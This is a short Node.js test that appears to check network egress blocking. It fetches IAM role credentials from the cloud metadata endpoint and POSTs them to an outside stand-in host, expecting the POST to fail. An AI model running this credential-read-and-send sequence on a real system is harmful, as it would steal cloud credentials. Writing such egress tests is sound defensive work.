import { test } from 'node:test';
import assert from 'node:assert/strict';
test('reads roles', async () => {
  const roles = await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/');
  await assert.rejects(fetch('https://c.example.net/in', { method: 'POST', body: await roles.text() }));
});
